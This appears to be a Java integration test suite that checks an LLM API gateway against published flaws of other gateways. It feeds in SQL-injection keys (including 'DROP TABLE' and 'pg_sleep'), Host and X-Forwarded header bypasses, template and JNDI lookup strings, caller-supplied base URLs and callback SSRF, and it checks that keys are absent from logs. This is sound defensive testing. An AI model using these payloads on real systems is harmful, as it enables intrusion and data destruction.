package io.chorus.ingress;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.chorus.contracts.Json;
import io.chorus.ingress.Caller.Reply;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Flaws that were published of other gateways for language models, each by its name. */
@ExtendWith(IngressKit.class)
@Timeout(120)
class PublishedFlawsIT {
  private static final String CHAT = "/v1/chat/completions";

  private static IngressKit.Parts parts;
  private static IngressServer server;
  private static Caller caller;

  @BeforeAll
  static void start(IngressKit.Parts all) throws Exception {
    parts = all;
    server = IngressServer.start(all.config());
    caller = new Caller(server);
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ck_x' OR '1'='1",
        "ck_x'; DROP TABLE api_keys; --_y",
        "ck_\" UNION SELECT * FROM api_keys --_y",
        "ck_x\\'; SELECT pg_sleep(10); --_y",
        "sk-1234' OR 1=1 --"
      })
  void sqlInjectionOnTheErrorPathOfTheKeyCheck(String key) throws Exception {
    Reply made =
        new Caller(server.adminUrl(), IngressKit.KEY).post("/v1/keys", "{\"name\":\"real\"}");
    int keys = parts.keys();

    for (URI door : List.of(server.baseUrl(), server.adminUrl())) {
      Reply reply = new Caller(door, key).get("/v1/keys");
      assertThat(reply.status()).isEqualTo(401);
      assertThat(reply.response().body()).doesNotContain("SELECT", "DROP", "OR 1");
    }

    assertThat(parts.keys()).isEqualTo(keys);
    Caller real = new Caller(server.baseUrl(), made.json().path("key").asText());
    assertThat(real.get("/v1/models").status()).isEqualTo(200);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"127.0.0.1", "localhost", "[::1]", "admin", "chorus?x=/health", "a/health"})
  void hostHeaderBypass(String host) throws IOException {
    List<String> headers =
        List.of(
            "",
            "X-Forwarded-Host: 127.0.0.1\r\nX-Forwarded-For: 127.0.0.1\r\n",
            "X-Original-URL: /health\r\nX-Rewrite-URL: /health\r\n");
    for (String more : headers) {
      for (String path :
          List.of("/v1/models", "/v1/tasks", "/v1/models/../models", "//v1/models")) {
        String request = "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + more;
        assertThat(status(server.baseUrl(), request)).isBetween(400, 499);
      }
      String request = "GET /v1/keys HTTP/1.1\r\nHost: " + host + "\r\n" + more;
      assertThat(status(server.adminUrl(), request)).isBetween(400, 499);
    }
  }

  private static int status(URI where, String request) throws IOException {
    try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), where.getPort())) {
      socket.setSoTimeout(20_000);
      socket.getOutputStream().write((request + "Connection: close\r\n\r\n").getBytes(UTF_8));
      String answer = new String(socket.getInputStream().readAllBytes(), UTF_8);
      return Integer.parseInt(answer.substring(9, 12));
    }
  }

  @Test
  void templatesFromUsers() throws Exception {
    String template = "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %> {% for x in y %} ${jndi:ldap://x/a} %s";
    String body =
        """
        {"messages": [{"role": "user", "content": "x"},
                      {"role": "assistant", "tool_calls": [{"id": "c", "type": "function",
                       "function": {"name": "f", "arguments": "{}"}}]},
                      {"role": "tool", "tool_call_id": "c", "content": %s}],
         "tools": [{"type": "function", "function": {"name": "f"}}],
         "metadata": {"end": "SUCCEEDED", "label": %s}}
        """
            .formatted(Json.writeText(template), Json.writeText(template));

    Reply reply = caller.post(CHAT, body);

    assertThat(reply.json().at("/choices/0/message/content").asText())
        .isEqualTo("The tool said: " + template);
    for (String field : List.of("template", "chat_template", "prompt_template", "prompt_id")) {
      Reply refused = caller.post(CHAT, "{\"prompt\":\"x\",\"%s\":\"{{x}}\"}".formatted(field));
      assertThat(refused.status()).isEqualTo(400);
      assertThat(refused.error().path("param").asText()).isEqualTo(field);
    }
  }

  private static Stream<String> baseUrlFields() {
    return Stream.of("base_url", "api_base", "api_key", "endpoint", "custom_llm_provider", "proxy");
  }

  @Test
  void baseUrlsGivenByCallers() throws Exception {
    try (ServerSocket elsewhere = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      String url = "http://127.0.0.1:" + elsewhere.getLocalPort() + "/";
      for (String field : baseUrlFields().toList()) {
        assertRefused(field, url);
      }
      Map<String, String> asModel = Map.of("prompt", "x", "model", "openai/" + url);
      assertThat(caller.post(CHAT, Json.writeText(asModel)).status()).isBetween(400, 404);
      Reply ignored =
          caller.send(
              caller
                  .request(CHAT)
                  .header("Content-Type", "application/json")
                  .header("x-chorus-base-url", url)
                  .header("OpenAI-Base-URL", url)
                  .POST(
                      BodyPublishers.ofString(
                          "{\"prompt\":\"x\",\"metadata\":{\"end\":\"SUCCEEDED\"}}")));

      assertThat(ignored.status()).isEqualTo(200);
      assertNobodyCame(elsewhere);
    }
  }

  @Test
  void callbackSsrf() throws Exception {
    try (ServerSocket elsewhere = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      String url = "http://127.0.0.1:" + elsewhere.getLocalPort() + "/";
      for (String field :
          List.of("webhook", "webhook_url", "callback", "callback_url", "callbacks")) {
        assertRefused(field, url);
      }
      assertNobodyCame(elsewhere);
    }
  }

  private static void assertRefused(String field, String url) throws Exception {
    for (String path : List.of(CHAT, "/v1/tasks")) {
      Reply refused = caller.post(path, Json.writeText(Map.of("prompt", "x", field, url)));
      assertThat(refused.status()).isEqualTo(400);
      assertThat(refused.error().path("param").asText()).isEqualTo(field);
    }
  }

  /** All that was asked is answered, so whoever was to come is in the backlog. */
  private static void assertNobodyCame(ServerSocket elsewhere) throws IOException {
    elsewhere.setSoTimeout(1);
    assertThatThrownBy(elsewhere::accept).isInstanceOf(SocketTimeoutException.class);
  }

  @Test
  void keysInLogs() throws Exception {
    String wrong = "ck_0123456789abcdef_" + "wrong-secret".repeat(3);
    try (IngressProcess process = IngressProcess.start(parts)) {
      URI door = process.baseUrl();
      Caller right = new Caller(door, IngressKit.KEY);
      assertThat(new Caller(door, wrong).get("/v1/models").status()).isEqualTo(401);
      assertThat(right.get("/v1/models").status()).isEqualTo(200);
      assertThat(right.post("/v1/tasks", "{\"prompt\":\"a secret prompt\"}").status())
          .isEqualTo(202);
      parts.postgres().pause();
      try {
        assertThat(right.get("/v1/tasks").status()).isEqualTo(503);
      } finally {
        parts.postgres().resume();
      }
      process.terminate();
      process.awaitEnd();

      assertThat(process.log()).anyMatch(line -> line.contains("no look-up"));
      assertThat(String.join("\n", process.log()))
          .doesNotContain(IngressKit.KEY, wrong, "wrong-secret", "a secret prompt")
          .doesNotContain(parts.postgres().password());
    }
  }
}
